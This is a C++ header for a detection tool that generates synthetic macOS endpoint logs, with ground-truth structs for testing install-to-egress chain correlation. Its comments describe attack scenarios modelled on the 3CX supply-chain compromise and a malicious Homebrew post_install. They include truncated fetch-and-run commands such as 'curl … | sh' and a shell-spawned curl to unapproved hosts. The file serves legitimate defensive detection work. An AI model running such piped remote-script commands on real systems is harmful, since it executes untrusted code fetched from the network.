#pragma once

#include <QByteArray>
#include <QDateTime>
#include <QList>
#include <QString>
#include <QStringList>

namespace Chainscope {

// The macOS demo evidence (issue 13, analytic AN0864): one Apple-silicon Mac on macOS 14,
// MBP-DESIGN-03 (user maya, uid 501, local zone Europe/Berlin, CET in March), in the three
// files an analyst collects from it:
//  - <host>-eslogger.jsonl: `eslogger exec fork exit create write close rename mmap`
//    (Endpoint Security notify events as JSON Lines; message version 7, schema_version 1);
//  - <host>-unifiedlog.ndjson: `log show --style ndjson --info` over the same hours, with
//    private data shown (the site's logging profile), ending in log's own
//    {"count":N,"finished":1} line;
//  - <host>-install.log: /var/log/install.log of the same hours.
// ES has no network events: egress is in the unified log, as Network.framework's
// "[C<n> host:port …] start" lines of the connecting process and as mDNSResponder's
// "getaddrinfo start … client pid: N (name)" lines for programs that use BSD sockets
// (curl, Go binaries), which name their client only inside the message.
//
// The stories, in minutes after `start` (each jittered by the seed):
//  (c) +5: a clean softwareupdated run. softwareupdated (running since boot) checks
//      swscan.apple.com and downloads from swcdn.apple.com; launchd starts
//      system_installd (through xpcproxy), which extracts XProtectPayloads 122 into its
//      sandbox under /Library/InstallerSandboxes and moves ("shoves") the two Mach-O files
//      into /Library/Apple/System/Library/CoreServices/XProtect.app; install.log records
//      the install. At +12 launchd starts the new XProtect, which starts the new
//      XProtectRemediatorAdload. Every binary is an Apple platform binary, no shell, and
//      the only hosts contacted are Apple's approved update hosts: no suspicious chain.
//  (a) +20: 3CX-like. The running 3CX Desktop App (Team ID 8CX3DESK42, allowed) starts
//      its updater (…/Frameworks/3CX Updater.app, same team), which fetches the update
//      from download.3cx.com (approved), stages libffmpeg.dylib under /private/var/folders
//      and renames it over the bundle's copy, rewrites the app's main executable and
//      creates Contents/MacOS/UpdateAgent. The user relaunches the app (launchd → xpcproxy
//      → app): it maps the ad-hoc signed libffmpeg.dylib (the app disables library
//      validation; its GPU helper does not, and the kernel's "Library Validation failed"
//      line names both Team IDs), then starts UpdateAgent, validly signed by another team
//      (J5Q7RZ2KXN, not allowed), which connects to an unapproved host and starts
//      `/bin/sh -c "curl …"`, whose curl resolves a second unapproved host: a full,
//      mismatched chain.
//  (b) +50: Homebrew from an unlisted tap. In Terminal maya runs
//      `brew install somevendor/tools/netmon` (the tap is not in BrewTapsAllowList):
//      bash runs the brew script and execs Homebrew's portable Ruby, which clones the tap
//      and downloads the release from github.com (approved), writes the keg under
//      /opt/homebrew/Cellar and links it, then runs the formula's post_install in a child
//      Ruby: `/bin/sh -c "curl -fsSL https://raw.githubusercontent.com/… | sh"`. The piped
//      script downloads /opt/homebrew/lib/netmon/netmon-agent (ad-hoc signed) from
//      objects.githubusercontent.com (approved) and starts it; the agent starts
//      `/bin/sh -c "sw_vers; id -un"` at once, but its first contact with an unapproved
//      host comes 3 h 12 min after the install: the near miss, a partial chain without
//      egress.
//
// Things a reader of the eslogger file must cope with, because real captures do them:
//  - an exec keeps the pid and gets a new pidversion (XNU's p_idversion counts forks and
//    execs): the event's "process" is the image before, "target" the one after, and
//    later events of that pid carry the new token;
//  - an app launched by launchd goes through /usr/libexec/xpcproxy: two execs in one pid;
//  - a script's exec names its interpreter as the executable, the script in "script",
//    and the interpreter and script path as the first arguments (brew);
//  - processes that started before the capture (launchd, softwareupdated, the old app,
//    Terminal's zsh, mDNSResponder) appear only as actors, never forked or exec'd;
//  - platform binaries have "team_id": null; ad-hoc code has a null team and CS_ADHOC.
//
// Deterministic for a seed (splitmix.h): the same seed gives the same bytes.
struct MacScenarioOptions
{
    quint64 seed = 1;
    QDateTime start = QDateTime(QDate(2026, 3, 2), QTime(9, 0), Qt::UTC);
};

// What a correct correlation reports for a story under the default policy plus the demo
// site's allow-lists (approvedUpdateHosts, allowedTeamIds below) and the default
// 90-minute window.
enum class MacExpectedChain {
    Full, // install → write → first run → egress, mismatched
    Partial, // some stage missing (missingStages), mismatched
    NoSuspiciousChain, // any chain there is carries no mismatch flag
};

// One story's ground truth, so that tests (and, once the macOS readers land, the chain
// tests) reference the generator's definitions instead of copying constants.
struct MacScenarioStory
{
    QString label; // "a", "b", "c"
    QString title;
    QString host;
    qint64 installUs = 0; // the installer's start (µs since the epoch, UTC)
    // Stage 1: the program that installs, as the analyst names it: its executable, or
    // for a script the script. brew is one: ES reports /bin/bash with "script"
    // /opt/homebrew/bin/brew, and the same pid then execs Homebrew's Ruby (installerExecs).
    QString installerImage;
    QStringList installerExecs; // the images the installer's pid exec'd, in order
    QStringList installerArgs; // the installer's exec arguments, as ES has them
    // Pids of the story's processes that were running before the capture began (seen
    // only as actors: softwareupdated, the old app, Terminal's zsh).
    QList<qint64> actorsBefore;
    QString installerTeamId; // empty for platform and ad-hoc code
    QString tap; // (b) the Homebrew tap the formula comes from
    QString package; // install.log's product name or the formula name
    QString packageVersion;
    QStringList written; // executables written in monitored program paths, in order
    // The written binary whose first run the story is about. In (b) a correlation may
    // name the piped `sh` as the first run instead (code fetched and run in one line);
    // the agent runs below it.
    QString firstRunImage;
    qint64 firstRunUs = 0;
    QString firstRunTeamId; // its Team ID; empty for ad-hoc and platform code
    bool firstRunPlatformBinary = false;
    QString loadedModule; // (a) the ad-hoc library the first run maps
    QString foreignTeamCode; // (a) the code the first run starts under a different team
    QString foreignTeamId; // (a) that code's Team ID
    QStringList children; // images the first run (or its descendants) starts, in order
    QStringList egressHosts; // unapproved destinations within the window, in order
    QStringList approvedHostsContacted; // approved destinations contacted by the story
    QString lateEgressHost; // (b) the unapproved host contacted after the window
    qint64 lateEgressAfterUs = -1; // (b) from the install to that contact

    MacExpectedChain expected = MacExpectedChain::NoSuspiciousChain;
    // Mismatch flags (correlator.h's Mismatch names) the chain must carry at least;
    // empty when no suspicious chain is expected.
    QStringList expectedFlags;
    QStringList missingStages; // stage names ("egress") of a partial chain
};

struct MacScenario
{
    struct File
    {
        QString fileName; // "mbp-design-03-eslogger.jsonl"
        QByteArray content;
    };
    QList<File> files; // eslogger, unified log, install.log
    QString host;
    QString hostShort; // as install.log names it
    int windowMinutes = 90;
    // The site's allow-lists for the demo policy.
    QStringList approvedUpdateHosts;
    QStringList allowedTeamIds;
    QStringList brewTapsAllowList; // the policy default, stated for the tests
    QList<MacScenarioStory> stories; // a, b, c
    const MacScenarioStory *story(const QString &label) const;
    const File *file(const QString &suffix) const; // by the end of its name
};

MacScenario buildMacScenario(const MacScenarioOptions &options);

struct MacScenarioFiles
{
    QStringList files; // absolute paths of the files written
    QString error;
};

// Writes the scenario's files into `dir`.
MacScenarioFiles writeMacScenario(const QString &dir, const MacScenario &scenario);

// The suffixes of the three files, for callers that pick one.
inline constexpr const char *MacEsloggerSuffix = "-eslogger.jsonl";
inline constexpr const char *MacUnifiedLogSuffix = "-unifiedlog.ndjson";
inline constexpr const char *MacInstallLogSuffix = "-install.log";

} // namespace Chainscope
